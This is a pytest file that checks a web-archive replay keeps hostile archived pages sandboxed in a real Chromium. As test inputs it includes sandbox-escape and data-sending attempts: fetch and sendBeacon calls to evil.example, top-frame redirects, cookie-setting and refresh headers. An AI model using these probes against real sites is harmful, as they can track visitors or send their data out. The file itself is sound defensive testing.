"""Pages that mean harm, in a real Chromium for which every host but this machine's address is a sentinel."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import Error

from tests.archive.replay.hostile import Sentinel, hostile_pages, hostile_parts
from tests.archive.replay.world import NOON_DIGITS, DataFolder, Replay
from tests.chromium import find_chromium
from tests.faults.rawserver import RawServer, page

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, BrowserContext, Frame, Page, Route

    World = tuple[Replay, dict[str, str]]

pytestmark = pytest.mark.browser

SITE = "https://hostile.example"
NAMES = list(hostile_pages(0))
ACTING = ":is(a, button, input[type=submit], input[type=image]):visible"
MOMENT = 200
"""Milliseconds that a page has for its harm, once nothing is loading any more."""
BROWSERS_OWN = ("google.com", "googleapis.com", "gstatic.com", "gvt1.com")
"""Where Chromium asks for its updates, and what to offer in a form; no page knows them."""
COOKIES = (b"Set-Cookie: harmed=1; Path=/; SameSite=None; Secure", b"Set-Cookie: harmed=2; Path=/")
HEADERS = (
    *COOKIES,
    b"Refresh: 0;url=https://evil.example/header",
    b"Link: <https://evil.example>; rel=preconnect",
)


@pytest.fixture(scope="module")
def sentinel() -> Iterator[Sentinel]:
    with Sentinel() as sentinel:
        yield sentinel


@pytest.fixture(scope="module")
def browser(sentinel: Sentinel) -> Iterator[Browser]:
    """A Chromium in which every name, whatever its port, is the sentinel."""
    executable = find_chromium()
    if executable is None:
        pytest.skip("no Chromium here: python -m tests.chromium installs one")
    from playwright.sync_api import sync_playwright  # noqa: PLC0415 - an extra that may be missing

    own = ", ".join(f"MAP *.{domain} ~NOTFOUND" for domain in BROWSERS_OWN)
    rule = f"{own}, MAP * 127.0.0.1:{sentinel.port}, EXCLUDE 127.0.0.1"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=executable, args=["--no-sandbox", f"--host-resolver-rules={rule}"]
        )
        yield browser
        browser.close()


@pytest.fixture
def context(browser: Browser, sentinel: Sentinel) -> Iterator[BrowserContext]:
    sentinel.hits.clear()
    with browser.new_context() as context:
        yield context


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, sentinel: Sentinel) -> Iterator[World]:
    """The replay of the pages, and the ids of their records by name."""
    path = tmp_path_factory.mktemp("hostile") / "data"
    records = {}
    with DataFolder(path) as data:
        for name, text in hostile_pages(sentinel.port).items():
            url = address(name)
            records[name] = data.record(url, data.put(url, text, headers=HEADERS), title=name)
        for name, (text, kind) in hostile_parts(sentinel.port).items():
            data.put(f"{SITE}/{name}", text, kind, headers=HEADERS)
    with Replay(path) as replay:
        yield replay, records


def address(name: str) -> str:
    return f"{SITE}/{name.replace(' ', '-')}"


def opened(context: BrowserContext, url: str) -> Page:
    page = context.new_page()
    page.goto(url, wait_until="networkidle")
    page.wait_for_timeout(MOMENT)
    return page


def archived(page: Page, name: str) -> Frame:
    return next(each for each in page.frames if each.url.endswith(address(name)))


def check_interface(page: Page, world: World, name: str) -> None:
    replay, records = world
    assert page.url == f"{replay.interface}/record/{records[name]}"
    assert page.title() == f"{name} · Venue Archive"
    assert page.evaluate("document.documentElement.getAttribute('harmed')") is None
    assert page.evaluate("localStorage.length + sessionStorage.length") == 0
    assert page.evaluate("document.cookie") == ""
    assert page.evaluate("navigator.serviceWorker.getRegistrations().then(found => found.length)") == 0


@pytest.mark.parametrize("name", NAMES)
def test_without_the_replay_they_do_reach_out(context, sentinel, name):
    """What shows that the tests below could fail."""
    parts = {
        f"/{each}": page(whole=text, kind=kind) for each, (text, kind) in hostile_parts(sentinel.port).items()
    }
    with RawServer({"/page": page(whole=hostile_pages(sentinel.port)[name]), **parts}) as server:
        context.new_page().goto(f"{server.url}/page", wait_until="commit")
        for _ in range(50):
            context.pages[0].wait_for_timeout(100)
            if sentinel.hits:
                break
    assert sentinel.hits


@pytest.mark.parametrize("name", NAMES)
def test_framed_in_the_interface(context, sentinel, world, name):
    replay, records = world
    page = opened(context, f"{replay.interface}/record/{records[name]}")
    for number in range(archived(page, name).locator(ACTING).count()):
        archived(page, name).locator(ACTING).nth(number).click(no_wait_after=True)
        page.wait_for_timeout(MOMENT)
        check_interface(page, world, name)
        page.goto(page.url, wait_until="networkidle")
    check_interface(page, world, name)
    assert context.pages == [page]
    assert context.cookies() == []
    assert sentinel.hits == []


@pytest.mark.parametrize("name", NAMES)
def test_opened_alone(context, sentinel, world, name):
    replay, _ = world
    alone = f"{replay.archive}/web/{NOON_DIGITS}/{address(name)}"
    page = opened(context, alone)
    assert page.url == alone
    assert page.title() != "harmed"
    for number in range(page.locator(ACTING).count()):
        page.locator(ACTING).nth(number).click(no_wait_after=True)
        page.wait_for_timeout(MOMENT)
        assert page.url.startswith(f"{replay.archive}/web/")
        page.goto(alone, wait_until="networkidle")
    assert context.pages == [page]
    assert context.cookies() == []
    assert sentinel.hits == []


@pytest.mark.parametrize("name", [*NAMES, "drawing.svg", "inner.html"])
def test_raw(context, sentinel, world, name):
    """Text, however it is asked for."""
    replay, _ = world
    raw = f"{replay.archive}/web/{NOON_DIGITS}id_/{address(name)}"
    page = opened(context, raw)
    assert (page.url, page.title()) == (raw, "")
    assert page.evaluate("document.contentType") == "text/plain"
    assert page.locator("script, iframe, img, style").count() == 0
    assert context.cookies() == []
    assert sentinel.hits == []


# Not the frames: Chromium connects to their hosts before it looks at the policy, then asks nothing.
@pytest.mark.parametrize("name", [name for name in NAMES if name != "frames"])
def test_even_if_nothing_were_rewritten(context, sentinel, world, name):
    """The page as it was under the headers that the replay sends: what it does by itself does no harm."""
    replay, records = world
    text = hostile_pages(sentinel.port)[name]

    def unchanged(route: Route) -> None:
        route.fulfill(response=route.fetch(), body=text)

    context.route(f"**/{address(name)}", unchanged)
    page = opened(context, f"{replay.interface}/record/{records[name]}")
    check_interface(page, world, name)
    assert context.pages == [page]
    assert context.cookies() == []
    assert sentinel.hits == []


@pytest.mark.parametrize(
    ("attempt", "refusal"),
    [
        ("document.cookie", "SecurityError"),
        ("document.cookie = 'harmed=1'", "SecurityError"),
        ("localStorage.harmed = 1", "SecurityError"),
        ("sessionStorage.harmed = 1", "SecurityError"),
        ("navigator.serviceWorker.register('/worker.js')", "SecurityError"),
        ("parent.document.title", "SecurityError"),
        ("top.localStorage", "SecurityError"),
        ("top.location.href", "SecurityError"),
        ("top.location = 'https://evil.example/'", "SecurityError"),
        ("caches.open('harmed')", "SecurityError"),
        ("fetch('INTERFACE/')", "Failed to fetch"),
        ("fetch('ARCHIVE/web/')", "Failed to fetch"),
        ("fetch('https://evil.example/')", "Failed to fetch"),
        ("new Worker('ARCHIVE/x.js')", "SecurityError"),
        ("if (window.open('https://evil.example/') === null) throw 'not opened'", "not opened"),
        ("if (navigator.sendBeacon('https://evil.example/', 'x')) throw 'sent, and blocked'", "blocked"),
    ],
)
def test_a_script_that_ran_could_do_nothing(context, sentinel, world, attempt, refusal):
    """Run by the debugger in the archived page: scripts of its own don't run at all."""
    replay, records = world
    page = opened(context, f"{replay.interface}/record/{records['calls']}")
    script = attempt.replace("INTERFACE", replay.interface).replace("ARCHIVE", replay.archive)
    with pytest.raises(Error, match=refusal):
        archived(page, "calls").evaluate(script)
    page.wait_for_timeout(MOMENT)
    check_interface(page, world, "calls")
    assert context.cookies() == []
    assert sentinel.hits == []
